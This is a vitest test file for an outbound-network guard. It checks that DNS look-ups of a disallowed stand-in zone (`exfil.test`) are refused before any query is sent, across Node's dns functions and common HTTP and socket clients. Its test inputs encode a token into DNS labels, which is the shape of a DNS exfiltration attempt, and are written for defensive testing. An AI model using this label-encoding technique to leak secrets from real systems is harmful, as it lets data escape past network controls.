/**
 * Threat class 12, DNS as a channel: data in the labels of a look-up of a name no rule allows
 * (`<secret>.exfil.test`) reaches whoever runs that zone's name servers, even if no connection follows.
 * Every way of asking must be refused before a query leaves the process: the `dns` module (lookup and
 * every resolve*, callback, promise and Resolver forms) and the look-up a client makes on its way to
 * connecting (fetch, http, net, tls, undici, axios, got).
 *
 * The counting test DNS server is the only resolver here: `dns.resolve*` are pointed at it, and a spy
 * installed beneath the guard routes `dns.lookup` (the system resolver) to it too, so a query the guard
 * let through would be counted rather than sent to the machine's real resolver.
 */
import dns from 'node:dns';
import http from 'node:http';
import net from 'node:net';
import tls from 'node:tls';
import axios from 'axios';
import got from 'got';
import { request as undiciRequest } from 'undici';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { install, uninstall } from '../../src/index.js';
import {
  type EventSink,
  errorEvent,
  eventSink,
  expectEgress,
  failureOf,
  lookupVia,
  loopbackRule,
  policyOf,
  type RecordingServer,
  startDnsServer,
  startHttpServer,
  type TestDnsServer,
  useDnsServer,
} from './kit.js';

const SECRET = 'c2VjcmV0LXRva2VuLTEyMzQ1Ng.exfil.test';
const LONG = `${'a1b2c3d4'.repeat(7)}abcdef1.${'00ff'.repeat(15)}abc.exfil.test`;

let resolver: TestDnsServer;
let server: RecordingServer;
let sink: EventSink;
let restoreServers: () => void;
let restoreLookup: () => void;
/** Calls that reached the (spied) system look-up beneath the guard. */
let systemLookups: string[] = [];

function installGuard() {
  sink = eventSink();
  install({
    policy: policyOf({
      allow: [loopbackRule('api', ['api.example.test'], { schemes: ['http', 'https', 'tcp', 'tls'] })],
    }),
    lookup: lookupVia(resolver),
    destination: sink,
  });
}

/** Replaces dns.lookup (both forms) with a spy on the test server, before install() wraps it. */
function spySystemLookup(): () => void {
  const original = dns.lookup;
  const originalPromise = dns.promises.lookup;
  const via = lookupVia(resolver);
  (dns as { lookup: unknown }).lookup = (host: string, options: unknown, callback?: unknown) => {
    systemLookups.push(host);
    return (via as (...a: unknown[]) => void)(host, options, callback);
  };
  (dns.promises as { lookup: unknown }).lookup = (host: string, options?: dns.LookupOptions) => {
    systemLookups.push(host);
    return new Promise((resolve, reject) =>
      via(host, { ...options }, (error, address, family) =>
        error ? reject(error) : resolve(Array.isArray(address) ? address : { address, family }),
      ),
    );
  };
  return () => {
    dns.lookup = original;
    dns.promises.lookup = originalPromise;
  };
}

/** No query for this name (any type, any case) reached the test server, nor the system look-up. */
function expectNoQuery(name: string): void {
  const lower = name.toLowerCase().replace(/\.$/, '');
  expect(resolver.queries.filter((q) => q.name.toLowerCase() === lower)).toEqual([]);
  expect(systemLookups.filter((h) => h.toLowerCase().replace(/\.$/, '') === lower)).toEqual([]);
}

beforeAll(async () => {
  resolver = await startDnsServer({
    'api.example.test': [{ type: 'A', data: '127.0.0.1' }],
    '*.exfil.test': [{ type: 'A', data: '127.0.0.1' }],
  });
  server = await startHttpServer();
});

afterEach(async () => {
  await uninstall();
  restoreLookup?.();
  restoreServers?.();
  server.reset();
  resolver.reset();
  systemLookups = [];
});

afterAll(async () => {
  await server.close();
  await resolver.close();
});

function setUp() {
  restoreServers = useDnsServer(resolver);
  restoreLookup = spySystemLookup();
  installGuard();
}

describe('threat 12: DNS as a channel — a name no rule lists is never looked up', () => {
  it('control: a listed name is resolved normally, through dns and through a client', async () => {
    setUp();
    expect(await dns.promises.resolve4('api.example.test')).toEqual(['127.0.0.1']);
    expect((await fetch(`http://api.example.test:${server.port}/`)).status).toBe(200);
    expect(resolver.queries.filter((q) => q.name === 'api.example.test').length).toBeGreaterThan(0);
  });

  it("dns.lookup('<secret>.exfil.test') and dns.promises.lookup: refused, zero queries", async () => {
    setUp();
    const error = await new Promise((resolve) => dns.lookup(SECRET, (e) => resolve(e)));
    expectEgress(error, {
      code: 'EGRESS_ERR_DENIED',
      reason: 'host_not_allowed',
      host: SECRET.toLowerCase(),
    });
    expectEgress(await failureOf(dns.promises.lookup(SECRET)), { reason: 'host_not_allowed' });
    expectNoQuery(SECRET);
    expect(sink.decisions().at(-1)).toMatchObject({ 'egress.hook': 'dns', 'egress.decision': 'denied' });
  });

  it('dns.resolveTxt and every other resolve*, in callback, promise and Resolver forms: refused, zero queries', async () => {
    setUp();
    const kinds = [
      'resolve',
      'resolve4',
      'resolve6',
      'resolveAny',
      'resolveCname',
      'resolveMx',
      'resolveNs',
      'resolveTxt',
      'resolveSrv',
      'resolveSoa',
      'resolveCaa',
      'resolveNaptr',
      'resolvePtr',
    ] as const;
    const callbackResolver = new dns.Resolver();
    const promiseResolver = new dns.promises.Resolver();
    for (const kind of kinds) {
      const viaCallback = (target: Record<string, unknown>) =>
        new Promise((resolve) =>
          (target[kind] as (n: string, cb: (e: unknown) => void) => void).call(target, SECRET, resolve),
        );
      expectEgress(await viaCallback(dns as never), { reason: 'host_not_allowed' });
      expectEgress(await viaCallback(callbackResolver as never), { reason: 'host_not_allowed' });
      const viaPromise = (target: Record<string, unknown>) =>
        (target[kind] as (n: string) => Promise<unknown>).call(target, SECRET);
      expectEgress(await failureOf(viaPromise(dns.promises as never)), { reason: 'host_not_allowed' });
      expectEgress(await failureOf(viaPromise(promiseResolver as never)), { reason: 'host_not_allowed' });
    }
    expectEgress(await failureOf(dns.promises.resolve(SECRET, 'TXT')), { reason: 'host_not_allowed' });
    expectNoQuery(SECRET);
  });

  it('a long, label-stuffed name and its case and trailing-dot variants: refused, zero queries', async () => {
    setUp();
    for (const name of [LONG, LONG.toUpperCase(), `${LONG}.`]) {
      expectEgress(await failureOf(dns.promises.resolveTxt(name)), { code: 'EGRESS_ERR_DENIED' });
      expectEgress(await failureOf(dns.promises.lookup(name)), { code: 'EGRESS_ERR_DENIED' });
    }
    expectNoQuery(LONG);
  });

  it('clients connecting to the name: fetch, http.get, undici, axios, got, net.connect, tls.connect — zero queries', async () => {
    setUp();
    const url = `http://${SECRET}:${server.port}/`;
    expectEgress(await failureOf(fetch(url)), { reason: 'host_not_allowed' });
    expectEgress(
      await failureOf(new Promise((resolve, reject) => http.get(url, resolve).on('error', reject))),
      { reason: 'host_not_allowed' },
    );
    expectEgress(await failureOf(undiciRequest(url)), { reason: 'host_not_allowed' });
    expectEgress(await failureOf(axios.get(url, { adapter: 'http', proxy: false })), {
      reason: 'host_not_allowed',
    });
    expectEgress(await failureOf(got.get(url, { retry: { limit: 0 } })), { reason: 'host_not_allowed' });
    expectEgress(await errorEvent(net.connect({ host: SECRET, port: server.port }), 'connect'), {
      reason: 'host_not_allowed',
    });
    expectEgress(await errorEvent(tls.connect({ host: SECRET, port: server.port }), 'secureConnect'), {
      reason: 'host_not_allowed',
    });
    expectNoQuery(SECRET);
    expect(server.connections).toBe(0);
  });

  it('a client given its own lookup function: the name is refused before that lookup is called', async () => {
    setUp();
    const calls: string[] = [];
    const own = ((host: string, options: unknown, callback: unknown) => {
      calls.push(host);
      return (lookupVia(resolver) as (...a: unknown[]) => void)(host, options, callback);
    }) as unknown as net.LookupFunction;
    expectEgress(await errorEvent(net.connect({ host: SECRET, port: server.port, lookup: own }), 'connect'), {
      reason: 'host_not_allowed',
    });
    expectEgress(
      await failureOf(
        new Promise((resolve, reject) =>
          http.get({ host: SECRET, port: server.port, lookup: own }, resolve).on('error', reject),
        ),
      ),
      { reason: 'host_not_allowed' },
    );
    expect(calls).toEqual([]);
    expectNoQuery(SECRET);
  });
});
